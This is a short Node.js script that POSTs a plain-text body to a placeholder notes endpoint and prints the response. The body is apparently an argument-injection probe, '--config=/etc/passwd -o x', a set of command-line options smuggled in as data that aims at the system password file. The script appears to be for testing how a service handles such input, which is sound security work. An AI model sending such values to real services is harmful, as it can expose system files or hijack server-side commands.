import https from "node:https";

const body = "--config=/etc/passwd -o x";
const url = "https://api.example.com/notes";
const options = {
  method: "POST",
  headers: { "Content-Type": "text/plain" },
};

const req = https.request(url, options, (res) => {
  console.log(res.statusCode);
  res.pipe(process.stdout);
});
req.on("error", console.error);
req.end(body);
